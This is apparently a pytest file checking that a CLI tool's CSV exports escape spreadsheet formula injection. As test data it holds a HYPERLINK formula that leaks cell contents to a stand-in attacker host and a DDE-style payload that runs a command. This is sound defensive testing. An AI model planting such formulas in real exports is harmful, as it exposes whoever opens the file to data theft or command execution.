"""CSV exports are safe to open in a spreadsheet: a text cell starting with a formula prefix
(`=`, `+`, `-`, `@`, tab, CR; OWASP CSV injection) gets a leading `'`; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from typer.testing import CliRunner

from clikit import emit
from readiness.cli import app
from storage import get_engine, migrate
from tests.hostile.stored import row_counts
from tests.readiness.helpers import catalog_doc, write_yaml

runner = CliRunner()
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'


def readiness(*args):
    return runner.invoke(app, [str(a) for a in args])


@pytest.fixture
def db(tmp_path) -> str:
    """A catalog whose systems carry formula names, evaluated once."""
    url = f"sqlite:///{tmp_path / 'peak.db'}"
    migrate(get_engine(url))
    doc = catalog_doc()
    doc["systems"][0]["name"] = FORMULA
    doc["systems"][1]["name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    doc["teams"][0]["name"] = "+Checkout"
    assert readiness("import", "--catalog", write_yaml(tmp_path / "catalog.yaml", doc), "--db", url).exit_code == 0
    assert readiness("evaluate", "--db", url).exit_code in (0, 3)
    return url


def cells(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_score_csv_escapes_formula_names_and_changes_nothing(db):
    before = row_counts(db)
    result = readiness("score", "--level", "system", "--format", "csv", "--db", db)
    assert result.exit_code == 0, result.output
    names = {row["key"]: row["name"] for row in cells(result.stdout)}
    assert names["SYS-1"] == "'" + FORMULA
    assert names["SYS-2"].startswith("'@SUM")
    assert names["SYS-3"] == "receipts"
    assert row_counts(db) == before


def test_score_csv_keeps_numbers_and_the_json_keeps_the_name_as_given(db):
    teams = cells(readiness("score", "--level", "team", "--format", "csv", "--db", db).stdout)
    assert {row["name"] for row in teams} == {"'+Checkout", "Fraud"}
    assert all(float(row["score"]) >= 0 for row in teams)  # not escaped: still a number
    shown = readiness("score", "--level", "system", "--format", "json", "--db", db).stdout
    assert '"name": "=HYPERLINK(' in shown


FORMULA_RULE = '''
from readiness.rulekit import RuleMeta, failed

META = RuleMeta(id="formula_message", title="A rule whose message is a formula", category="observability",
                severity="low", rationale="A message a spreadsheet would run as a formula.",
                remediation="Nothing to fix: the export must escape it.", facts=("inventory",))


def evaluate(system, facts):
    return failed("=HYPERLINK(\\"http://attacker.example\\")")
'''


def test_export_csv_escapes_a_rule_message_written_as_a_formula(db, tmp_path):
    extra = tmp_path / "extra-rules"
    extra.mkdir()
    (extra / "formula_message.py").write_text(FORMULA_RULE)
    assert readiness("evaluate", "--rules-dir", extra, "--db", db).exit_code in (0, 3)
    result = readiness("export", "--format", "csv", "--rules-dir", extra, "--db", db)
    assert result.exit_code == 0, result.output
    rows = cells(result.stdout)
    messages = {row["message"] for row in rows if row["rule_id"] == "formula_message"}
    assert messages == {"'=HYPERLINK(\"http://attacker.example\")"}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a=b", "a=b"), (-3, "-3"), (-0.5, "-0.5"),
])
def test_the_one_csv_writer_escapes_text_not_numbers(capsys, value, written):
    emit([{"v": value}], "csv", ["v"])
    assert capsys.readouterr().out.split("\n")[1] == written  # raw: no quoting needed for these
